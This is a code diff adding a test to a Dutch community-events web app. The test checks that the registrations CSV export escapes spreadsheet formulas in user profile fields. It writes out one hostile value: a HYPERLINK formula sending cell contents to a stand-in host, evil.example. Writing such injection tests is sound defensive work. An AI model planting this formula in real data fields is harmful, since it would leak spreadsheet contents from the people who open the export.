@@ -7,7 +7,7 @@ from icalendar import Calendar
 from community.events import services
 from community.events.models import Event, WeekEdition
 from community.extensions import db
-from tests.helpers import log_in, make_user, page_text, post_form
+from tests.helpers import csv_rows, log_in, make_user, page_text, post_form
 
 EVENT = {
     "title": "Lezing: signalen herkennen op school",
@@ -126,6 +126,23 @@ def test_rsvp_beyond_capacity_lands_on_the_waiting_list(app):
     assert "Je bent aangemeld." in page_text(visitors[2].get(url))
     csv_text = organiser.get(f"{url}/registrations?format=csv").get_data(as_text=True)
     assert "v2@verbind.example" in csv_text and "v0@verbind.example" not in csv_text
+
+
+def test_registrations_export_turns_profile_fields_into_text_not_formulas(app):
+    organiser = client_for(app, "org@verbind.example", roles=("organiser",))
+    event_id = event_id_from(submit(organiser))
+    moderator = client_for(app, "mod@verbind.example", roles=("moderator",))
+    review(moderator, event_id, "approve")
+    hostile = '=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")'
+    with app.app_context():
+        make_user(name="-Anna+Bos", email="bezoeker@verbind.example", organisation=hostile)
+    visitor = app.test_client()
+    log_in(visitor, "bezoeker@verbind.example")
+    url = f"/week/events/{event_id}"
+    post_form(visitor, f"{url}/register", page=url)
+    header, row = csv_rows(organiser.get(f"{url}/registrations?format=csv"))
+    assert header[:3] == ["Naam", "E-mailadres", "Organisatie"]
+    assert row[:3] == ["'-Anna+Bos", "bezoeker@verbind.example", "'" + hostile]
 
 
 def test_a_rejected_event_never_appears_publicly(app, client):
